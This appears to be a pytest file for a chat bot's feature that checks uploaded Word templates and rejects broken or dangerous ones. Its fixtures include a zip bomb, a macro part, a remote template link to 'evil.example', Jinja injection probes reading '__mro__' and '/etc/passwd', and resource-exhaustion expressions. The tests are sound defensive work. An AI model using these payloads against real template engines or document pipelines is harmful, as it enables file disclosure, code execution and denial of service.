"""An organisation's own Word templates: checked before they are used; what is broken is told, and changes nothing."""

import io
import zipfile
from collections.abc import Callable
from pathlib import Path

import docx
import pytest

from bot.exports import drawing
from bot.exports.apart import Apart
from bot.exports.own_templates import samples
from bot.exports.word import TEMPLATES, check, ours, word
from dossier.errors import DossierError
from dossier.fields import FileRef
from dossier.kinds import built_in
from tests.scenarios.test_exporting import cards, export, words_in
from tests.scenarios.test_keeping_files import lying
from tests.team import Team, form_in, said


def template(*lines: str) -> bytes:
    """Give a Word file with these paragraphs."""
    made, written = docx.Document(), io.BytesIO()
    for line in lines:
        made.add_paragraph(line)
    made.save(written)
    return written.getvalue()


def upload(team: Team, who: str, content: bytes, what: str = "minutes", way: str = "own") -> str:
    """Upload a template and give what is said of it in the end."""
    team.platform.files["t"] = content
    file = FileRef(id="t", name="模板.docx", size=len(content), type="application/zip")
    form = form_in(team.say(who, "/档案 模板"))
    answer = said(team.submit(form, who, what=what, way=way, file=[file]))
    team.app.jobs.work_due()
    told = [card.text for card in team.told(who) if "模板.docx" in card.text]
    return told[-1] if told else answer


def test_a_template_of_ones_own_is_used_once_it_was_checked(team: Team) -> None:
    team.say("lilei", "/minutes 需求评审 | 决定: 用微信登录")
    own = template(
        "星河软件 · {{ dossier.customer }}", "{{ fields.topic }} {{ labels.decisions }}：{{ fields.decisions }}"
    )
    assert "检查通过" in upload(team, "wangfang", own)

    _, content = export(team, "lilei", "#1 word")
    assert words_in(content).startswith("星河软件 · ABC有限公司\n需求评审 决定：用微信登录")

    upload(team, "wangfang", b"", way="standard")
    _, content = export(team, "lilei", "#1 word")
    assert "星河软件" not in words_in(content)


def test_a_row_of_a_list_is_written_as_it_is_read(team: Team) -> None:
    team.say("lilei", "/minutes 需求评审 | 决定: 用微信登录 | 行动项: 发文档 @李雷 12月1日")
    own = template("{% for each in fields.actions %}* {{ each }}{% endfor %}", "{{ fields.actions }}")
    assert "检查通过" in upload(team, "wangfang", own)

    _, content = export(team, "lilei", "#1 word")
    assert words_in(content).strip() == "* 发文档 · 李雷 · 2026年12月1日\n发文档 · 李雷 · 2026年12月1日"


def test_a_template_without_a_name_in_it_is_used_with_a_warning(team: Team) -> None:
    told = upload(team, "wangfang", template("星河软件"))
    assert "检查通过" in told
    assert "导出的文件里不会有记录的内容" in told
    assert "不会有记录的内容" not in upload(team, "wangfang", template("{{ title }}"))


def test_the_template_in_use_is_sent_to_begin_with(team: Team) -> None:
    upload(team, "wangfang", b"", way="send")
    ((target, name, content),) = team.platform.sent.values()
    assert (target.account, name) == ("wangfang", "minutes.docx")
    assert content == ours("minutes")


DOUBLED = "{% set a = a ~ a %}" * 50 + "{{ a }}"


def _bomb() -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as packed:
        packed.writestr("word/document.xml", bytes(80 * 1024 * 1024))
    return written.getvalue()


def _with(name: str, content: bytes) -> bytes:
    written = io.BytesIO(template("x"))
    with zipfile.ZipFile(written, "a") as packed:
        packed.writestr(name, content)
    return written.getvalue()


_REMOTE = (
    b'<Relationships><Relationship Id="r1" Type="http://x/attachedTemplate" Target="http://evil.example/x.dotm" '
    b"TargetMode = 'External'/></Relationships>"
)


@pytest.mark.parametrize(
    ("content", "told"),
    [
        (lambda: b"hello", "仍用原来的模板。“模板.docx”按名字是 Word 文档，里面却是文本"),
        (lambda: b"\x00\x01\x02\x03", "仍用原来的模板。这不是 Word 文件"),
        (lambda: b"PK\x03\x04 cut off", "已损坏，打不开"),
        (lambda: _with("x", b"")[:-40], "已损坏，打不开"),
        (_bomb, "解压后太大"),
        (lambda: _with("word/vbaProject.bin", b"x"), "可以带宏，打开时会运行程序"),
        (lambda: _with("word/_rels/settings.xml.rels", _REMOTE), "引用了外部文件"),
        (
            lambda: template("{{ fields.topik }}"),
            "“topik”不认识，是不是想写 fields.topic？可以用的名字：",
        ),
        (lambda: template("一", "{{ title", "二"), "花括号没有写完整，或者循环、判断没有结束：“{{ title"),
        (lambda: template("{% for a in facts %}"), "循环、判断没有结束"),
        (lambda: template("{{ title.__class__.__mro__ }}"), "不能有计算、函数或别的文件"),
        (lambda: template("{{ 'x' * 1000000000 }}"), "不能有计算"),
        (lambda: template("{{ title|nosuch }}"), "没有“nosuch”这个过滤器"),
        (lambda: template("{% for a in range(9) %}x{% endfor %}"), "“range”不认识"),
        (lambda: template("{% include '/etc/passwd' %}"), "或别的文件"),
    ],
)
def test_a_broken_or_dangerous_template_is_told_and_not_used(
    team: Team, content: Callable[[], bytes], told: str
) -> None:
    answer = upload(team, "wangfang", content())
    assert told in answer
    assert "仍用原来的模板" in answer
    assert team.read("wangfang", lambda store: store.templates.own("minutes")) is None


@pytest.mark.parametrize("grows", ["{{ title|center(3000000000) }}", "{% set a = title ~ title %}" + DOUBLED])
def test_a_template_that_makes_too_much_is_told_and_the_next_one_is_checked(team: Team, grows: str) -> None:
    assert "太慢，或结果太大" in upload(team, "wangfang", template(grows))
    assert "检查通过" in upload(team, "wangfang", template("{{ fields.topic }}"))


def test_a_template_that_does_not_end_is_stopped() -> None:
    loops = "{% for a in people.columns %}" * 16 + "x" + "{% endfor %}" * 16
    with pytest.raises(DossierError, match="template-endless"):
        Apart().fill(samples(built_in())["cover"], template(loops), 1.0)


def test_a_text_that_a_template_goes_through_is_its_lines(team: Team) -> None:
    content = template("{% for each in fields.decisions %}({{ each }}){% endfor %}")
    assert "检查通过" in upload(team, "wangfang", content)
    assert "(甲)(乙)" in words_in(word(samples(built_in())["minutes"], "minutes", content))


def test_a_template_that_is_too_large_is_told(team: Team) -> None:
    assert "不超过 5 MB" in upload(team, "wangfang", bytes(6 * 1024 * 1024))


def test_only_a_manager_sets_templates_and_needs_a_file_for_it(team: Team) -> None:
    assert "管理层" in said(team.say("lilei", "/档案 模板"))
    form = form_in(team.say("wangfang", "/档案 模板"))
    assert said(team.submit(form, "wangfang", file=[])) == "file: 请上传一个 .docx 文件。"


@pytest.mark.parametrize("name", TEMPLATES)
def test_our_templates_pass_the_check_themselves(name: str) -> None:
    check(ours(name), samples(built_in()), name)
    assert "{" not in words_in(word(samples(built_in())[name], name))


def test_the_templates_in_the_package_are_those_that_are_drawn(tmp_path: Path) -> None:
    for name, made in drawing.templates().items():
        made.save(str(tmp_path / "drawn.docx"))
        with zipfile.ZipFile(tmp_path / "drawn.docx") as drawn, zipfile.ZipFile(io.BytesIO(ours(name))) as packed:
            for part in ("word/document.xml", "word/styles.xml", "word/footer1.xml", "word/header1.xml"):
                assert packed.read(part) == drawn.read(part), f"{name}: {part}: python -m bot.exports.drawing"


def test_one_whose_content_is_lost_is_named_and_can_be_given_up(team: Team) -> None:
    team.say("lilei", "/minutes 需求评审 | 决定: 用微信登录")
    assert "检查通过" in upload(team, "wangfang", template("{{ fields.topic }}"))
    for each in lying(team):
        each.unlink()

    team.say("lilei", "/档案 导出 #1 word")
    team.app.jobs.work_due()

    assert "模板 minutes 在文件库里丢失或损坏" in cards(team, "lilei")[-1].text
    upload(team, "wangfang", b"", way="standard")
    assert "需求评审" in words_in(export(team, "lilei", "#1 word")[1])
